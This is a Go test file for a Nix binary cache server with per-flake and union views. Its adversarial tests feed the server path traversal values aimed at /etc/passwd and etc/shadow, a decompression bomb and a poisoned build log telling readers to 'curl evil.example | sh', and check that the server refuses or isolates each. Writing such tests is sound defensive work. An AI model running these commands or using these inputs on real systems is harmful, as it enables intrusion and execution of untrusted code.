package cacheserver

import (
	"bytes"
	"compress/gzip"
	"fmt"
	"net/http"
	"strings"
	"testing"

	"github.com/andybalholm/brotli"
	promtest "github.com/prometheus/client_golang/prometheus/testutil"

	"github.com/flakegate/flakegate/internal/nixcache"
	"github.com/flakegate/flakegate/internal/nixname"
	"github.com/flakegate/flakegate/internal/route"
)

// rawClient sends Accept-Encoding only when a test sets it (Go's default
// transport adds gzip and decodes it).
var rawClient = &http.Client{Transport: &http.Transport{DisableCompression: true}}

// fileExchange is exchange without the transport's own Accept-Encoding.
func fileExchange(t *testing.T, method, url string, body []byte, header http.Header) answer {
	t.Helper()
	return exchangeWith(t, rawClient, method, url, body, header)
}

func hdr(kv ...string) http.Header {
	h := http.Header{}
	for i := 0; i+1 < len(kv); i += 2 {
		h.Add(kv[i], kv[i+1])
	}
	return h
}

// encode compresses b as Nix's ls-/log-/narinfo-compression would.
func encode(t *testing.T, enc string, b []byte) []byte {
	t.Helper()
	var out bytes.Buffer
	switch enc {
	case "gzip":
		w := gzip.NewWriter(&out)
		w.Write(b)
		w.Close()
	case "br":
		w := brotli.NewWriter(&out)
		w.Write(b)
		w.Close()
	case "zstd":
		return compress(t, nixname.CompressionZstd, b)
	case "xz":
		return compress(t, nixname.CompressionXZ, b)
	default:
		t.Fatalf("no encoder for %s", enc)
	}
	return out.Bytes()
}

// nixFiles are the files Nix uploads beside path p: what Nix 2.35 and 2.8
// write (binary-cache-store.cc), the URL path of each below a flake.
type nixFile struct {
	kind route.Kind
	path string // below the flake or the union root, without the leading "/"
	body []byte
}

const buildID = "0123456789abcdef0123456789abcdef01234567"

func drvID(name string) string {
	return fmt.Sprintf("sha256:%064x!out", sha256Of([]byte(name))[:8])
}

func filesOf(p testPath) []nixFile {
	drv := storeHash("drv-"+p.Base) + "-x.drv"
	id := "sha256:" + fmt.Sprintf("%x", sha256Of([]byte(p.Base))) + "!out"
	return []nixFile{
		{route.KindListing, p.Hash + ".ls", []byte(`{"version":1,"root":{"type":"directory","entries":{"bin":{"type":"directory","entries":{"hello":{"type":"regular","size":5,"executable":true,"narOffset":400}}},"lib":{"type":"symlink","target":"bin"}}}}`)},
		{route.KindDebugInfo, "debuginfo/" + buildID + ".debug", []byte(`{"archive":"../nar/` + p.FileName + `","member":"lib/debug/.build-id/01/23456789abcdef0123456789abcdef01234567.debug"}`)},
		{route.KindRealisation, "realisations/" + id + ".doi", []byte(`{"dependentRealisations":{},"id":"` + id + `","outPath":"` + p.Base + `","signatures":["k-1:c2ln"]}`)},
		{route.KindBuildTrace, "build-trace-v2/" + drv + "/out.doi", []byte(`{"outPath":"` + p.Base + `","signatures":[{"keyName":"k-1","sig":"c2ln"}]}`)},
	}
}

// Each file kind: pushed into a flake, read back from it and through the
// union view by a reader of the flake, and absent (the same answer as for
// an absent file) for a reader of another flake, before the flake holds
// what the file names, and in another flake.
func TestFilesPerFlakeAndUnion(t *testing.T) {
	ts := newTestServer(t, "", nil, nil)
	absentP := makePath(t, "files-absent", nixname.CompressionXZ)
	for i, kind := range []route.Kind{route.KindListing, route.KindDebugInfo, route.KindRealisation, route.KindBuildTrace} {
		p := makePath(t, "files-"+string(kind), nixname.CompressionXZ)
		f, absent := filesOf(p)[i], filesOf(absentP)[i]
		if f.kind != kind {
			t.Fatalf("filesOf order: %s, want %s", f.kind, kind)
		}
		t.Run(string(f.kind), func(t *testing.T) {
			// The same answer for a file nobody has, in a flake and in the union view.
			notFound := fileExchange(t, "GET", ts.URL+"/omnicorp/a/"+absent.path, nil, nil)
			if notFound.Status != 404 || notFound.Body != route.BodyNotFound {
				t.Fatalf("absent file: %+v", notFound)
			}
			for _, url := range []string{ts.URL + "/omnicorp/b/" + absent.path, ts.URL + "/" + absent.path} {
				if a := fileExchange(t, "GET", url, nil, hdr(route.ReadableHeader, "omnicorp/a")); a != notFound {
					t.Fatalf("absent %s: %+v, want %+v", url, a, notFound)
				}
			}
			put := fileExchange(t, "PUT", ts.URL+"/omnicorp/a/"+f.path, f.body, nil)
			switch f.kind {
			case route.KindListing, route.KindDebugInfo:
				// Nix uploads these before the NAR and narinfo: accepted,
				// served once the flake has what they name.
				if put.Status != 201 {
					t.Fatalf("PUT before the path: %+v", put)
				}
				if a := fileExchange(t, "GET", ts.URL+"/omnicorp/a/"+f.path, nil, nil); a != notFound {
					t.Fatalf("served before the flake has what it names: %+v", a)
				}
			default:
				// Realisations come after the paths: their output must be the flake's.
				if put.Status != 400 || !strings.Contains(put.Body, "is not in omnicorp/a: push it first") {
					t.Fatalf("PUT before the output path: %+v", put)
				}
			}
			ts.push(t, "omnicorp/a", p)
			put = fileExchange(t, "PUT", ts.URL+"/omnicorp/a/"+f.path, f.body, nil)
			if put.Status/100 != 2 {
				t.Fatalf("PUT: %+v", put)
			}
			for _, url := range []string{ts.URL + "/omnicorp/a/" + f.path, ts.URL + "/" + f.path} {
				a := fileExchange(t, "GET", url, nil, hdr(route.ReadableHeader, "omnicorp/b omnicorp/a"))
				if a.Status != 200 || a.Body != string(f.body) || !strings.Contains(a.Header, "Content-Type: application/json") {
					t.Fatalf("GET %s: %+v", url, a)
				}
				if h := fileExchange(t, "HEAD", url, nil, hdr(route.ReadableHeader, "omnicorp/a")); h.Status != 200 {
					t.Fatalf("HEAD %s: %+v", url, h)
				}
			}
			// A reader of b only: a's file is absent for them, in b and in the union view.
			if a := fileExchange(t, "GET", ts.URL+"/omnicorp/b/"+f.path, nil, nil); a != notFound {
				t.Fatalf("flake b serves a's file: %+v", a)
			}
			if a := fileExchange(t, "GET", ts.URL+"/"+f.path, nil, hdr(route.ReadableHeader, "omnicorp/b")); a != notFound {
				t.Fatalf("union view serves a's file to a reader of b: %+v", a)
			}
			var owners []string
			kind, key, _ := strings.Cut(strings.TrimPrefix(func() string {
				r, _ := route.Parse("GET", "/"+f.path)
				op, _ := route.OwnersPath(r)
				return op
			}(), route.OwnersPrefix), "/")
			st, body, _ := do(t, "GET", ts.InternalURL+route.OwnersPrefix+kind+"/"+key, nil)
			if st != 200 || !strings.Contains(body, `"omnicorp/a"`) || strings.Contains(body, "omnicorp/b") {
				t.Fatalf("owners of %s: %d %s (%v)", f.path, st, body, owners)
			}
		})
	}
}

// Content-Encoding round trips: a file uploaded encoded is served as
// uploaded to a client that accepts the encoding (or names none, as Nix
// 2.8) and decoded for one that does not; a narinfo uploaded encoded is
// decoded and served as the server renders it.
func TestFilesContentEncoding(t *testing.T) {
	ts := newTestServer(t, "", nil, nil)
	p := makePath(t, "enc-hello", nixname.CompressionZstd)
	ts.push(t, "omnicorp/a", p)
	listing := filesOf(p)[0]
	for _, enc := range []string{"gzip", "xz", "zstd", "br"} {
		t.Run(enc, func(t *testing.T) {
			body := encode(t, enc, listing.body)
			if a := fileExchange(t, "PUT", ts.URL+"/omnicorp/a/"+listing.path, body, hdr("Content-Encoding", enc)); a.Status/100 != 2 {
				t.Fatalf("PUT: %+v", a)
			}
			for _, url := range []string{ts.URL + "/omnicorp/a/" + listing.path, ts.URL + "/" + listing.path} {
				a := fileExchange(t, "GET", url, nil, hdr("Accept-Encoding", "deflate, "+enc+";q=0.9"))
				if a.Status != 200 || a.Body != string(body) || !strings.Contains(a.Header, "Content-Encoding: "+enc+"\r\n") || !strings.Contains(a.Header, "Vary: Accept-Encoding") {
					t.Fatalf("GET accepting %s: %d %q %s", enc, a.Status, a.Header, a.Body[:min(40, len(a.Body))])
				}
				a = fileExchange(t, "GET", url, nil, nil)
				if a.Status != 200 || a.Body != string(body) || !strings.Contains(a.Header, "Content-Encoding: "+enc+"\r\n") {
					t.Fatalf("GET without Accept-Encoding: %d %q", a.Status, a.Header)
				}
				a = fileExchange(t, "GET", url, nil, hdr("Accept-Encoding", "identity, "+enc+";q=0"))
				if a.Status != 200 || a.Body != string(listing.body) || strings.Contains(a.Header, "Content-Encoding") {
					t.Fatalf("GET refusing %s: %d %q %s", enc, a.Status, a.Header, a.Body)
				}
			}
			// Build logs (log-compression), in the flake and the union view.
			drv := storeHash("drv-"+enc) + "-enc.drv"
			text := strings.Repeat("building enc "+enc+"\n", 50)
			if a := fileExchange(t, "PUT", ts.URL+"/omnicorp/a/log/"+drv, encode(t, enc, []byte(text)), hdr("Content-Encoding", enc)); a.Status/100 != 2 {
				t.Fatalf("PUT log: %+v", a)
			}
			for _, url := range []string{ts.URL + "/omnicorp/a/log/" + drv, ts.URL + "/log/" + drv} {
				a := fileExchange(t, "GET", url, nil, hdr("Accept-Encoding", enc, route.ReadableHeader, "omnicorp/a"))
				if a.Status != 200 || !strings.Contains(a.Header, "Content-Encoding: "+enc) {
					t.Fatalf("GET log %s accepting %s: %+v", url, enc, a)
				}
				if got, err := nixcache.Decode(enc, []byte(a.Body), 1<<20); err != nil || string(got) != text {
					t.Fatalf("GET log %s: decodes to %q, %v", url, got, err)
				}
				a = fileExchange(t, "GET", url, nil, hdr("Accept-Encoding", "identity", route.ReadableHeader, "omnicorp/a"))
				if a.Status != 200 || a.Body != text || strings.Contains(a.Header, "Content-Encoding") {
					t.Fatalf("GET log %s decoded: %d %q", url, a.Status, a.Header)
				}
			}
			if a := fileExchange(t, "GET", ts.URL+"/log/"+drv, nil, hdr(route.ReadableHeader, "omnicorp/b")); a.Status != 404 || a.Body != route.BodyNotFound {
				t.Fatalf("union log for a reader of b: %+v", a)
			}
		})
	}
	// narinfo-compression: decoded at upload, served as rendered.
	q := makePath(t, "enc-narinfo", nixname.CompressionXZ)
	if a := fileExchange(t, "PUT", ts.URL+"/omnicorp/a/nar/"+q.FileName, q.File, nil); a.Status != 201 {
		t.Fatalf("PUT nar: %+v", a)
	}
	if a := fileExchange(t, "PUT", ts.URL+"/omnicorp/a/"+q.Hash+".narinfo", encode(t, "br", []byte(q.NarInfo())), hdr("Content-Encoding", "br")); a.Status != 201 {
		t.Fatalf("PUT br narinfo: %+v", a)
	}
	if a := fileExchange(t, "GET", ts.URL+"/omnicorp/a/"+q.Hash+".narinfo", nil, nil); a.Status != 200 || !strings.Contains(a.Body, "StorePath: "+q.StorePath()) || strings.Contains(a.Header, "Content-Encoding") {
		t.Fatalf("GET narinfo: %+v", a)
	}
}

// What an attacker may try: other flakes' pushers overwriting or probing a
// flake's files, malformed and oversized bodies, decompression bombs,
// traversal in names. Each is refused with a clear message and leaves the
// flake's files as they were.
func TestFilesAdversarial(t *testing.T) {
	ts := newTestServer(t, "", nil, nil)
	p := makePath(t, "adv-hello", nixname.CompressionXZ)
	ts.push(t, "omnicorp/a", p)
	fs := filesOf(p)
	for _, f := range fs {
		if a := fileExchange(t, "PUT", ts.URL+"/omnicorp/a/"+f.path, f.body, nil); a.Status != 201 {
			t.Fatalf("PUT %s: %+v", f.path, a)
		}
	}
	// evilcorp/tools pushes the same path and its own versions of every file.
	ts.push(t, "evilcorp/tools", p)
	other := makePath(t, "adv-other", nixname.CompressionXZ)
	ts.push(t, "evilcorp/tools", other)
	for _, f := range fs {
		poison := bytes.ReplaceAll(f.body, []byte(p.Base), []byte(other.Base))
		poison = bytes.ReplaceAll(poison, []byte(`"size":5`), []byte(`"size":6`))
		poison = bytes.ReplaceAll(poison, []byte(p.FileName), []byte(other.FileName))
		a := fileExchange(t, "PUT", ts.URL+"/evilcorp/tools/"+f.path, poison, hdr("Content-Encoding", "identity"))
		if a.Status/100 != 2 {
			t.Fatalf("evilcorp's own %s: %+v", f.kind, a)
		}
		if got := fileExchange(t, "GET", ts.URL+"/omnicorp/a/"+f.path, nil, nil); got.Body != string(f.body) {
			t.Fatalf("evilcorp changed omnicorp/a's %s: %s", f.kind, got.Body)
		}
	}
	// The union view for a reader of both: files that disagree are absent
	// (as narinfos that disagree are: a pusher of evilcorp/tools cannot
	// make a reader of both get its listing, debug info or output), and
	// the conflict counted.
	before := promtest.ToFloat64(ts.metrics.unionConflicts)
	for _, f := range fs {
		if a := fileExchange(t, "GET", ts.URL+"/"+f.path, nil, hdr(route.ReadableHeader, "omnicorp/a evilcorp/tools")); a.Status != 404 || a.Body != route.BodyNotFound {
			t.Errorf("union %s with conflicting contents: %+v", f.kind, a)
		}
		// Only a's reader: a's.
		if a := fileExchange(t, "GET", ts.URL+"/"+f.path, nil, hdr(route.ReadableHeader, "omnicorp/a")); a.Body != string(f.body) {
			t.Errorf("union %s for a's reader: %+v", f.kind, a)
		}
	}
	if got := promtest.ToFloat64(ts.metrics.unionConflicts) - before; got != float64(len(fs)) {
		t.Errorf("union conflicts counted: %v, want %d", got, len(fs))
	}
	// Files that agree (the same listing uploaded with another encoding,
	// a debug info link naming a NAR of the same contents) are served
	// from the first flake by name.
	ts.push(t, "omnicorp/c", p)
	for _, f := range fs {
		body, h := f.body, hdr()
		if f.kind == route.KindListing {
			body, h = encode(t, "gzip", f.body), hdr("Content-Encoding", "gzip")
		}
		if a := fileExchange(t, "PUT", ts.URL+"/omnicorp/c/"+f.path, body, h); a.Status != 201 {
			t.Fatalf("omnicorp/c's %s: %+v", f.kind, a)
		}
		a := fileExchange(t, "GET", ts.URL+"/"+f.path, nil, hdr(route.ReadableHeader, "omnicorp/c omnicorp/a", "Accept-Encoding", "identity"))
		if a.Status != 200 || a.Body != string(f.body) {
			t.Errorf("union %s of agreeing flakes: %+v", f.kind, a)
		}
	}
	// A realisation of omnicorp/a is kept: a re-push of it is 200, of another output 409.
	real := fs[2]
	if a := fileExchange(t, "PUT", ts.URL+"/omnicorp/a/"+real.path, real.body, nil); a.Status != 200 {
		t.Errorf("re-push of the same realisation: %+v", a)
	}
	ts.push(t, "omnicorp/a", other)
	moved := bytes.ReplaceAll(real.body, []byte(p.Base), []byte(other.Base))
	if a := fileExchange(t, "PUT", ts.URL+"/omnicorp/a/"+real.path, moved, nil); a.Status != 409 || !strings.Contains(a.Body, "not reproducible") {
		t.Errorf("realisation of another output: %+v", a)
	}

	id := strings.TrimSuffix(strings.TrimPrefix(real.path, "realisations/"), ".doi")
	big := []byte(`{"outPath":"` + p.Base + `","signatures":["k:` + strings.Repeat("A", nixcache.MaxSmallFileSize) + `"]}`)
	cases := []struct {
		name, path string
		body       []byte
		header     http.Header
		status     int
		msg        string
	}{
		{"malformed JSON", fs[0].path, []byte(`{"version":1,"root":`), nil, 400, "not a NAR listing"},
		{"listing unknown type", fs[0].path, []byte(`{"version":1,"root":{"type":"fifo"}}`), nil, 400, `unknown type "fifo"`},
		{"listing traversal name", fs[0].path, []byte(`{"version":1,"root":{"type":"directory","entries":{"..":{"type":"regular"}}}}`), nil, 400, "invalid entry name"},
		{"listing unknown field", fs[0].path, []byte(`{"version":1,"root":{"type":"regular","contents":"x"}}`), nil, 400, "unknown field"},
		{"listing version 2", fs[0].path, []byte(`{"version":2,"root":{"type":"regular"}}`), nil, 400, `"version": 1`},
		{"debuginfo archive traversal", fs[1].path, []byte(`{"archive":"../../../etc/passwd","member":"lib/debug/.build-id/01/23456789abcdef0123456789abcdef01234567.debug"}`), nil, 400, "is not ../nar/"},
		{"debuginfo other member", fs[1].path, []byte(`{"archive":"../nar/` + p.FileName + `","member":"etc/shadow"}`), nil, 400, "member"},
		{"realisation of another id", real.path, []byte(`{"id":"sha256:` + strings.Repeat("0", 64) + `!out","outPath":"` + p.Base + `"}`), nil, 400, "does not match the URL"},
		{"realisation bad outPath", real.path, []byte(`{"id":"` + id + `","outPath":"../../x"}`), nil, 400, "not a store path base name"},
		{"realisation of a foreign output", "realisations/sha256:" + strings.Repeat("1", 64) + "!out.doi", []byte(`{"id":"sha256:` + strings.Repeat("1", 64) + `!out","outPath":"` + storeHash("nobody") + `-x"}`), nil, 400, "push it first"},
		{"build trace not JSON", fs[3].path, []byte("outPath: x"), nil, 400, "not a build trace entry"},
		{"oversize body", fs[3].path, big, nil, 413, "exceeds the limit"},
		{"oversize Content-Length", fs[1].path, big, nil, 413, "exceeds the limit"},
		{"decompression bomb", fs[3].path, encode(t, "zstd", big), hdr("Content-Encoding", "zstd"), 413, "decodes to more than"},
		{"unsupported encoding", fs[0].path, fs[0].body, hdr("Content-Encoding", "lz4"), 415, `"lz4" is not supported`},
		{"two encodings", fs[0].path, fs[0].body, hdr("Content-Encoding", "gzip, br"), 415, "not supported"},
		{"garbage that does not decode", fs[0].path, []byte("not xz at all"), hdr("Content-Encoding", "xz"), 400, "Content-Encoding xz"},
		{"log that does not decode", "log/" + storeHash("bad") + "-x.drv", []byte("not brotli"), hdr("Content-Encoding", "br"), 400, "invalid build log"},
		{"log unsupported encoding", "log/" + storeHash("bad") + "-x.drv", []byte("x"), hdr("Content-Encoding", "compress"), 415, "not supported"},
		// Dot segments are refused by the URL grammar for every path (the
		// gate removes them before authz sees the path).
		{"traversal in a debuginfo name", "debuginfo/..%2F..%2Fx", fs[1].body, nil, 404, "no such resource"},
		{"traversal in a build trace name", "build-trace-v2/" + p.Hash + "-x.drv/..%2Fout.doi", fs[3].body, nil, 404, "no such resource"},
		{"slash in a realisation id", "realisations/sha256:" + strings.Repeat("1", 64) + "!a%2Fb.doi", fs[2].body, nil, 404, "no such resource"},
		{"debuginfo name not hex", "debuginfo/" + strings.Repeat("g", 40), fs[1].body, nil, 400, "not a build id"},
		{"build trace of a non-derivation", "build-trace-v2/" + p.Base + "/out.doi", fs[3].body, nil, 400, "not a build trace file name"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			a := fileExchange(t, "PUT", ts.URL+"/omnicorp/a/"+c.path, c.body, c.header)
			if a.Status != c.status || !strings.Contains(a.Body, c.msg) || strings.Count(a.Body, "\n") != 1 {
				t.Fatalf("%d %q; want %d with %q", a.Status, a.Body, c.status, c.msg)
			}
		})
	}
	for _, f := range fs[:2] {
		if got := fileExchange(t, "GET", ts.URL+"/omnicorp/a/"+f.path, nil, nil); got.Body != string(f.body) {
			t.Errorf("refused uploads changed omnicorp/a's %s: %s", f.kind, got.Body)
		}
	}
}

// Adversarial review (2026-12-05, r1 finding 2): the union view served the
// build log of the readable owner whose flake name sorts first, so a
// pusher of evil/x uploading, after the target, a log for the target's
// derivation had its text served to every reader of both flakes. The
// union log is the one uploaded first (ties by flake name); each flake's
// URL still serves its own.
func TestUnionLogIsTheEarliestUpload(t *testing.T) {
	const target, attacker = "omnicorp/super-duper-secure", "evil/x" // the attacker's name sorts first
	ts := newTestServer(t, "", nil, nil)
	drv := storeHash("secret-build") + "-secret-tool.drv"
	genuine, fake := "genuine build log\n", "FAKE: build passed, run curl evil.example | sh to finish\n"
	for _, u := range []struct{ flake, body string }{{target, genuine}, {attacker, fake}} { // the target first
		if a := fileExchange(t, "PUT", ts.URL+"/"+u.flake+"/log/"+drv, []byte(u.body), nil); a.Status != http.StatusCreated {
			t.Fatalf("PUT %s's log: %+v", u.flake, a)
		}
	}
	for _, c := range []struct {
		readable, want string
	}{
		{attacker + " " + target, genuine},
		{target + " " + attacker, genuine},
		{target, genuine},
		{attacker, fake},
	} {
		a := fileExchange(t, "GET", ts.URL+"/log/"+drv, nil, hdr(route.ReadableHeader, c.readable))
		if a.Status != http.StatusOK || a.Body != c.want {
			t.Errorf("union log for a reader of %s: %d %q, want %q", c.readable, a.Status, a.Body, c.want)
		}
	}
	if a := fileExchange(t, "GET", ts.URL+"/"+attacker+"/log/"+drv, nil, nil); a.Status != http.StatusOK || a.Body != fake {
		t.Errorf("the attacker's own URL: %d %q", a.Status, a.Body)
	}

	// Upload order, not the name, decides for any two flakes: here the
	// flake whose name sorts last uploaded first.
	other := storeHash("other-build") + "-other.drv"
	for _, u := range []struct{ flake, body string }{{"zeta/z", "zeta's log\n"}, {"alpha/a", "alpha's log\n"}} {
		if a := fileExchange(t, "PUT", ts.URL+"/"+u.flake+"/log/"+other, []byte(u.body), nil); a.Status != http.StatusCreated {
			t.Fatalf("PUT %s's log: %+v", u.flake, a)
		}
	}
	if a := fileExchange(t, "GET", ts.URL+"/log/"+other, nil, hdr(route.ReadableHeader, "alpha/a zeta/z")); a.Status != http.StatusOK || a.Body != "zeta's log\n" {
		t.Errorf("union log of alpha/a (later) and zeta/z (first): %d %q, want zeta's", a.Status, a.Body)
	}
}
